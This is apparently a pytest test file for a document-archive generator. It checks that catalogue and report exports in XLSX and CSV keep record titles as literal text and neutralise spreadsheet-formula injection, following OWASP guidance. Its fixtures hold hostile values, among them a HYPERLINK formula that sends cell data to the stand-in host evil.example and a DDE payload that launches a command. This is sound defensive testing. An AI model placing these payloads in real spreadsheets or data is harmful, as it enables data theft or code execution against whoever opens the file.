"""A record's text in a spreadsheet the project writes is text, never a formula (issue 13, point 3).

A speech titled ``=HYPERLINK(…)`` is a valid record. The site's catalogue downloads and the readiness
report's workbook must hand it to Excel, WPS and LibreOffice as the literal title: a string cell in XLSX, a
field prefixed with ``'`` in CSV (OWASP's CSV-injection guidance). Read back with openpyxl, Python's csv
reader and LibreOffice itself.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import subprocess
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from conftest import CliResult, require_tool, write_archive
from openpyxl import load_workbook

from generator import exports
from generator.site.publish import publish
from generator.validate import require_archive

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")'
# Each starts as OWASP lists (=, +, -, @, tab), or is an error code openpyxl would write as one.
HOSTILE = [
    HYPERLINK,
    "+1+2 加号开头",
    "-3+4 减号开头",
    "@SUM(1,2) 艾特开头",
    "\t=1+1 制表符开头",
    "=cmd|' /C calc'!A0",
    "#N/A",
]
# Not at the start, but after a separator: quoting every CSV field keeps it inside its own cell.
SEPARATED = "逗号,=1+1;@SUM(1)分号"
TITLES = [*HOSTILE, SEPARATED]
HOSTILE_TAG = "=2*3"


def _speech(index: int, title: str) -> str:
    quoted = title.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t")
    return f"""\
title: "{quoted}"
speaker: 王某
date: 2024-05-08
indicators: [A.1]
tags: ["{HOSTILE_TAG}"]
body: 第{index}篇。
"""


RECTIFICATION = """\
title: '=HYPERLINK("http://evil.example/r","整改")'
problem: 幸福路早市占道经营
found_by: 第一督查组
found_on: 2024-06-01
unit: cgj
deadline: 2024-06-30
status: open
"""


@pytest.fixture(scope="module")
def hostile_data(tmp_path_factory: pytest.TempPathFactory) -> Path:
    files: dict[str, str | bytes | None] = {
        f"speeches/h{i}.yml": _speech(i, title) for i, title in enumerate(TITLES)
    }
    files["rectifications/r-hostile.yml"] = RECTIFICATION
    return write_archive(tmp_path_factory.mktemp("hostile") / "data", files)


@pytest.fixture(scope="module")
def hostile_site(hostile_data: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The real site (MkDocs and the plugin, as `dossier site` builds it) of the archive with those titles."""
    archive = require_archive(hostile_data)[0]
    out = tmp_path_factory.mktemp("hostile-site") / "site"
    publish(archive, out, "internal", tmp_path_factory.mktemp("hostile-cache"), workers=1)
    return out


def test_hostile_titles_pass_check(hostile_data: Path, dossier: Callable[..., CliResult]) -> None:
    """They are valid titles: the defence is in the writers, not a refusal."""
    result = dossier("check", "--data", str(hostile_data))
    assert result.exit_code == 0, result.stdout + result.stderr


def _xlsx_cells(path: Path) -> dict[str, tuple[str, object]]:
    """Each cell's value (as text) → (openpyxl's data type, value), over every sheet."""
    book = load_workbook(path)
    return {
        str(cell.value): (cell.data_type, cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    }


def _formulas(path: Path) -> list[str]:
    """Sheets of the workbook that hold a formula element."""
    with zipfile.ZipFile(path) as book:
        return [n for n in book.namelist() if n.startswith("xl/worksheets/") and b"<f" in book.read(n)]


def test_catalogue_xlsx_holds_each_title_as_a_string(hostile_site: Path) -> None:
    path = hostile_site / "downloads" / "catalogue.xlsx"
    cells = _xlsx_cells(path)
    for title in [*TITLES, HOSTILE_TAG]:
        assert cells.get(title) == ("s", title), title
    assert _formulas(path) == []


def test_catalogue_csv_neutralises_what_starts_a_formula(hostile_site: Path) -> None:
    raw = (hostile_site / "downloads" / "catalogue.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM, as before
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    header, body = rows[0], rows[1:]
    titles = {row[header.index("题名")] for row in body}
    for title in HOSTILE:
        expected = title if title == "#N/A" else "'" + title  # "#N/A" starts no formula in a CSV
        assert expected in titles, title
    assert SEPARATED in titles  # no separator inside it split the cell
    assert not any(field and field[0] in "=+-@\t\r" for row in rows for field in row), (
        "a field starts a formula"
    )
    assert {row[header.index("标签")] for row in body if row[0].startswith("h")} == {"'" + HOSTILE_TAG}
    for line in raw.decode("utf-8-sig").split("\r\n")[:-1]:
        assert line.startswith('"') and line.endswith('"'), line  # every field quoted


@pytest.mark.tools("soffice")
def test_libreoffice_reads_the_catalogue_title_as_text(hostile_site: Path, tmp_path: Path) -> None:
    """LibreOffice Calc opens the XLSX and saves it as CSV: the cell is the literal title, not the link text
    that a formula would compute."""
    soffice = require_tool("soffice")
    profile = tmp_path / "profile"
    done = subprocess.run(
        [
            soffice,
            f"-env:UserInstallation={profile.as_uri()}",
            "--headless",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76,1",
            "--outdir",
            str(tmp_path),
            str(hostile_site / "downloads" / "catalogue.xlsx"),
        ],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    converted = tmp_path / "catalogue.csv"
    assert converted.is_file(), f"no CSV (is libreoffice-calc installed?): {done.stdout}{done.stderr}"
    rows = list(csv.reader(io.StringIO(converted.read_text(encoding="utf-8-sig"))))
    titles = {row[2] for row in rows[1:]}
    assert HYPERLINK in titles
    assert "点此查看" not in titles
    assert set(HOSTILE) <= titles


def test_report_xlsx_holds_titles_as_strings(
    hostile_data: Path, dossier: Callable[..., CliResult], tmp_path: Path
) -> None:
    out = tmp_path / "report.xlsx"
    result = dossier("report", "--data", str(hostile_data), "--format", "xlsx", "--out", str(out))
    assert result.exit_code == 0, result.stdout + result.stderr
    cells = _xlsx_cells(out)
    assert cells.get(HYPERLINK) == ("s", HYPERLINK)  # the speeches outside the assessment window
    ledger = '=HYPERLINK("http://evil.example/r","整改")'
    assert cells.get(ledger) == ("s", ledger)  # the rectification ledger
    assert _formulas(out) == []


@pytest.mark.parametrize("odd", ["", "回车\r在中间"], ids=["written-by-dossier", "written-by-openpyxl"])
def test_both_xlsx_writers_keep_text_as_text(odd: str, tmp_path: Path) -> None:
    """A carriage return anywhere makes the catalogue fall back on openpyxl for every row: that writer too
    keeps each title a string."""
    rows = [
        {c: (text if c == "title" else f"{c}{i}") for c in exports.COLUMNS} for i, text in enumerate(TITLES)
    ]
    if odd:
        rows.append(dict.fromkeys(exports.COLUMNS, odd))
    assert (exports._sheet_rows(rows) is None) == bool(odd)
    path = tmp_path / "c.xlsx"
    path.write_bytes(exports.to_xlsx(rows, "zh", dt.date(2025, 1, 1), "标题"))
    cells = _xlsx_cells(path)
    for title in TITLES:
        assert cells.get(title) == ("s", title), title
    assert _formulas(path) == []
